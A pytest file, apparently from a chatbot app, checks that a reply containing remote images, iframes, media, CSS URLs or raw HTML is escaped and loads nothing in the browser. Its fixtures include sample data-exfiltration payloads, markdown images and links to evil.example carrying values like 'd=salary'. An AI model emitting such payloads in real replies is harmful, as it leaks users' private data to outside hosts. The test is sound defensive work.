"""Safe model output: a reply carrying remote images, media, iframes or raw HTML makes the browser
fetch nothing; the HTML shows as text, and links show their real URL and open only on a click."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from bot.safe_text import safe_markdown


def test_safe_markdown_escapes_html_and_unhides_images_and_links():
    text = safe_markdown(
        'See ![chart](http://evil.example/x.png?d=salary "t") and [docs](https://evil.example/steal?d=1) '
        '<img src="http://evil.example/i"> <iframe src="//evil.example/f"></iframe>\n'
        "[ref]: http://evil.example/ref\n![r][ref]"
    )
    assert "<img" not in text and "<iframe" not in text and "&lt;img" in text
    assert "![" not in text.replace("!\\[", "")  # no image syntax left
    assert "http://evil.example/x.png?d=salary" in text  # the image's URL, as text
    assert "docs (https://evil.example/steal?d=1)" in text  # a link shows where it goes
    assert "\\[ref\\]:" in text  # not a reference definition any more
    assert safe_markdown("plain **bold** and `code`") == "plain **bold** and `code`"
    assert safe_markdown("[https://a.example/](https://a.example/)") == "https://a.example/"


class _Listener:
    """An HTTP server on 127.0.0.1 that records every request made to it."""

    def __init__(self) -> None:
        seen = self.seen = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.filterwarnings("ignore:::gradio.queueing")
def test_a_reply_with_remote_media_loads_nothing_in_the_browser(chromium, make_coach, recording_llm):
    from privacy_support import launch
    from ui import build_app

    listener = _Listener()
    u = listener.url
    reply = (
        f"Your numbers ![p]({u}/md-image?d=salary91000) and <img src=\"{u}/html-img?d=salary91000\"> "
        f"<video poster=\"{u}/poster\" src=\"{u}/video\" autoplay></video> <audio src=\"{u}/audio\" autoplay></audio> "
        f"<iframe src=\"{u}/frame\"></iframe> <picture><source srcset=\"{u}/srcset\"></picture> "
        f"<div style=\"background:url({u}/css)\">styled</div> <b>raw bold</b> "
        f"Read more: [the guide]({u}/link?d=salary91000)\n\n[ref]: {u}/ref\n\n![r][ref]"
    )
    coach = make_coach(recording_llm([reply, '{"strengths": []}']))
    page_app = build_app(coach)
    url = launch(page_app)
    context = chromium.new_context()
    try:
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.goto(url)
        page.fill("#coach-input textarea", "Tell me about my salary of 91000.")
        page.press("#coach-input textarea", "Enter")
        page.wait_for_function(
            """() => document.querySelectorAll('#coach-chat [data-testid="bot"]').length >= 1
                   && !document.querySelector('[data-testid="stop-button"]')"""
        )
        page.wait_for_timeout(1500)
        page.reload()  # the same reply, rendered again from the journal
        page.locator('#coach-chat [data-testid="bot"]').first.wait_for()
        page.wait_for_timeout(1500)
        assert listener.seen == [], listener.seen  # nothing fetched without a click

        bubble = page.locator('#coach-chat [data-testid="bot"]').first
        shown = bubble.inner_text()
        assert "<img" in shown and "<iframe" in shown  # raw HTML shows as text
        assert f"{u}/link?d=salary91000" in shown  # the link's real URL is visible
        assert bubble.locator("img, video, audio, iframe, picture, source, [style]").count() == 0
        links = bubble.locator(f'a[href^="{u}"]')
        assert links.count() >= 1
        for i in range(links.count()):
            rel = (links.nth(i).get_attribute("rel") or "").split()
            assert "noopener" in rel and "noreferrer" in rel, rel

        # The listener is reachable from this browser: a click does open the link.
        with context.expect_page() as opened:
            links.first.click()
        opened.value.wait_for_load_state()
        assert any(p.startswith("/") for p in listener.seen), listener.seen
    finally:
        context.close()
        page_app.close()
        listener.close()
